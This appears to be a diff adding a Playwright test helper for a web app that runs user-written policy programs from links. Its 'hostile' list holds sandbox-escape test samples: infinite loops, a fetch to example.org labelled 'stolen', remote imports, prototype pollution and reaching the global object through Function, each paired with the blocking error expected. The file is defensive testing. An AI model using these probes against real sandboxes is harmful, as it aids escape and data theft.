@@ -1,0 +1,95 @@
+// Policies that people write, in links: good ones, and those that mean harm.
+
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { expect, type Locator, type Page } from '@playwright/test';
+import { linkOf, short } from './scenario.ts';
+
+/** One of those that ship as examples. */
+export function example(id: string): string {
+  return readFileSync(path.resolve(import.meta.dirname, `../../workloads/policies/${id}.ts`), 'utf8');
+}
+
+/** The link of the short scenario with a program for a policy. */
+export function linkWith(source: string): string {
+  return linkOf(short({ policy: { id: 'own', params: { source } } }));
+}
+
+/** Programs that mean harm, and what a person reads of each. */
+export const hostile: readonly { readonly does: string; readonly source: string; readonly reads: RegExp }[] =
+  [
+    {
+      does: 'loops for ever',
+      source: 'export default function decide() {\n  for (;;);\n}',
+      reads: /policy own, cycle 0: it has not answered within 2 seconds/,
+    },
+    {
+      does: 'loops before it is asked',
+      source: 'while (true);\nexport default () => [0];',
+      reads: /it has not answered within 2 seconds/,
+    },
+    {
+      does: 'fetches',
+      source: 'export default () => {\n  fetch("https://example.org/?stolen");\n  return [0];\n};',
+      reads: /line 2: ReferenceError: fetch is not defined/,
+    },
+    {
+      does: 'imports',
+      source: 'import thing from "https://example.org/thing.js";\nexport default () => thing;',
+      reads: /nothing can be imported here/,
+    },
+    {
+      does: 'imports later',
+      source: 'export default () => {\n  import("https://example.org/thing.js");\n  return [0];\n};',
+      reads: /nothing can be imported here/,
+    },
+    {
+      does: 'throws',
+      source: 'export default () => {\n\n  throw new RangeError("out of ideas");\n};',
+      reads: /policy own, cycle 0: line 3: RangeError: out of ideas/,
+    },
+    {
+      does: 'pollutes prototypes',
+      source: '\n({}).constructor.prototype.polluted = 1;\nexport default () => [0];',
+      reads: /line 2: TypeError: Cannot add property polluted/,
+    },
+    {
+      does: 'reaches for the global object through Function',
+      source:
+        'export default () => {\n  const all = Function("return this")();\n  all.postMessage("hello");\n  return [0];\n};',
+      reads: /line 3: TypeError: all\.postMessage is not a function/,
+    },
+    {
+      does: 'answers with far too much',
+      source: 'export default () => ({ run: [], why: { rule: "x".repeat(5e6) } });',
+      reads: /its answer has \d+ characters/,
+    },
+    {
+      does: 'answers with what is no number',
+      source: 'export default () => ({ place: [NaN] });',
+      reads: /its answer has NaN at 0/,
+    },
+    {
+      does: 'looks at the clock',
+      source: 'export default () => {\n  if (Date.now() > 0) return [0];\n};',
+      reads: /line 2: ReferenceError: Date is not defined/,
+    },
+  ];
+
+/** The editor's text. */
+export function editor(page: Page): Locator {
+  return page.getByRole('textbox', { name: /^Program of the policy/ });
+}
+
+/** Writes a program over what is there. */
+export async function write(page: Page, source: string): Promise<void> {
+  await expect(editor(page)).toBeVisible();
+  await editor(page).fill(source);
+}
+
+/** Reads the program that came with a link, as a person is asked to, and runs it. */
+export async function letRun(page: Page): Promise<void> {
+  await page.getByRole('button', { name: 'Read the program' }).click();
+  await expect(editor(page)).toBeVisible();
+  await page.getByRole('button', { name: /^Run/ }).click();
+}
